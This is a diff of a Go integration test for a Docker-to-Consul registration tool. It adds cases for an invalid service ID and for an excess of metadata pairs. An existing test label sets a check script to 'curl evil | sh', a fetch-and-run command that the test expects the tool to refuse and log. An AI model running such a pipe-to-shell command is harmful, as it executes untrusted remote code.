@@ -294,12 +294,25 @@ func TestIntegrationBadMetadata(t *testing.T) {
 			"SERVICE_CHECK_HTTP": "/health", "SERVICE_CHECK_INTERVAL": "10x",
 			"SERVICE_CHECK_SCRIPT": "curl evil | sh", "SERVICE_CHECK_FOO": "1",
 			"SERVICE_99999_NAME": "x", "SERVICE_NAME": "badmeta",
+			// Consul could not deregister "..": the default ID instead.
+			"SERVICE_ID": "..",
 		}),
 	})
 	good := h.id + "-good"
 	testenv.RunContainer(t, h.docker, testenv.Container{Name: good, Networks: []string{n.Name}, Labels: h.labels(map[string]string{"SERVICE_NAME": "goodmeta"})})
-	badID, goodID := h.node+":"+bad+":8080", h.node+":"+good+":8080"
-	h.waitServices(10*time.Second, badID, goodID)
+	// More attributes than Consul takes Meta pairs (it refuses such a
+	// registration whole): registered with those that fit.
+	many, manyLabels := h.id+"-many", map[string]string{"SERVICE_NAME": "manymeta"}
+	for i := range 70 {
+		manyLabels[fmt.Sprintf("SERVICE_M%02d", i)] = "v"
+	}
+	testenv.RunContainer(t, h.docker, testenv.Container{Name: many, Networks: []string{n.Name}, Labels: h.labels(manyLabels)})
+	badID, goodID, manyID := h.node+":"+bad+":8080", h.node+":"+good+":8080", h.node+":"+many+":8080"
+	h.waitServices(10*time.Second, badID, goodID, manyID)
+	entries, _, err := h.api.Catalog().Service("manymeta", "", nil)
+	if err != nil || len(entries) != 1 || len(entries[0].ServiceMeta) != register.MaxMeta {
+		t.Errorf("manymeta in the catalog: %d entries (%v), want 1 with %d Meta pairs", len(entries), err, register.MaxMeta)
+	}
 
 	checks, err := h.api.Agent().ChecksWithFilter(fmt.Sprintf("ServiceID == %q", badID))
 	if err != nil {
@@ -316,7 +329,8 @@ func TestIntegrationBadMetadata(t *testing.T) {
 		}
 	}
 	logs := h.logText()
-	for _, want := range []string{"SERVICE_CHECK_INTERVAL", "10x", "SERVICE_CHECK_SCRIPT", "refused", "SERVICE_CHECK_FOO", "SERVICE_99999_NAME", bad} {
+	for _, want := range []string{"SERVICE_CHECK_INTERVAL", "10x", "SERVICE_CHECK_SCRIPT", "refused", "SERVICE_CHECK_FOO", "SERVICE_99999_NAME", bad,
+		"SERVICE_M69", "at most 64 Meta pairs", many, "not usable as a Consul service ID"} {
 		if !strings.Contains(logs, want) {
 			t.Errorf("agent log does not mention %q:\n%s", want, logs)
 		}
